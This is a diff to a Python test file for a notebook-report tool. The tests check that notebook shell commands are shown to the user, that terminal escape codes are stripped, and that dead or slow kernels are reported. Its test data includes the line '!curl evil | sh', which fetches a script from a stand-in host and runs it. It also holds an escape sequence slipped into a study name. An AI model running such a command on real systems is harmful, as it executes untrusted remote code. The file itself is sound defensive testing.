@@ -282,12 +282,11 @@ def test_project_that_came_with_the_report_is_not_trusted(project, monkeypatch):
 
 
 def test_commands_and_unreadable_cells_are_shown_and_terminals_are_left_alone(finished):
-    from nbformat.v4 import new_code_cell, new_notebook
-
     from workbench.reports.checking.consent import plan_of
+    from workbench.reports.via_nbformat import v4
 
     sources = ["!curl evil | sh\nimport os.path", "%load_ext x", "def (", "from shutil import a"]
-    notebook = new_notebook(cells=[new_code_cell(source) for source in sources])
+    notebook = v4.new_notebook(cells=[v4.new_code_cell(source) for source in sources])
     ledger = replace(read_ledger(finished.reports / "small"), study="s\x1b[2Jmall")
     told = plan_of(notebook, ledger).told()
     assert "imports     os, shutil" in told
@@ -297,10 +296,11 @@ def test_commands_and_unreadable_cells_are_shown_and_terminals_are_left_alone(fi
     assert "\x1b" not in told
 
 
+@pytest.mark.quick_cases(1)
 @pytest.mark.parametrize(
     ("cell", "timeout", "told"),
     [("import os; os.kill(os.getpid(), 9)", 60, "the kernel died in cell 1"),
-     ("while True: pass", 6, "cell 1 was still running after 6 seconds")],
+     ("import time; time.sleep(60)", 6, "cell 1 was still running after 6 seconds")],
 )  # fmt: skip
 def test_kernel_that_dies_or_takes_too_long_is_said(new_project, frozen, cell, timeout, told):
     from workbench.reports.running import run_study
